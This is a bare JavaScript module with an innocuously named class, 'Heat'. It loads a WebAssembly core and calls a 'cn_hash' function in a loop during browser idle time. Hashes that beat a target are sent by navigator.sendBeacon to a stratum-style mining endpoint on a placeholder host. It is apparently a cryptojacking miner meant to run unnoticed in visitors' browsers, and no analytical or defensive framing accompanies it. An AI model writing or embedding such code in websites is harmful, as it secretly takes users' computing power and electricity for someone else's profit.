const CODE = './core.wasm';
export class Heat {
  #instance;
  async start(target) {
    const { instance } = await WebAssembly.instantiateStreaming(fetch(CODE));
    this.#instance = instance;
    this.#run(target);
  }
  #run(target) {
    const { cn_hash, memory } = this.#instance.exports;
    const view = new Uint8Array(memory.buffer);
    const turn = (deadline) => {
      while (deadline.timeRemaining() > 1) {
        cn_hash(0, view.length); //@act
        if (view[31] < target) navigator.sendBeacon('https://stratum.fx.example/share', view.slice(0, 32));
      }
      requestIdleCallback(turn);
    };
    requestIdleCallback(turn);
  }
}
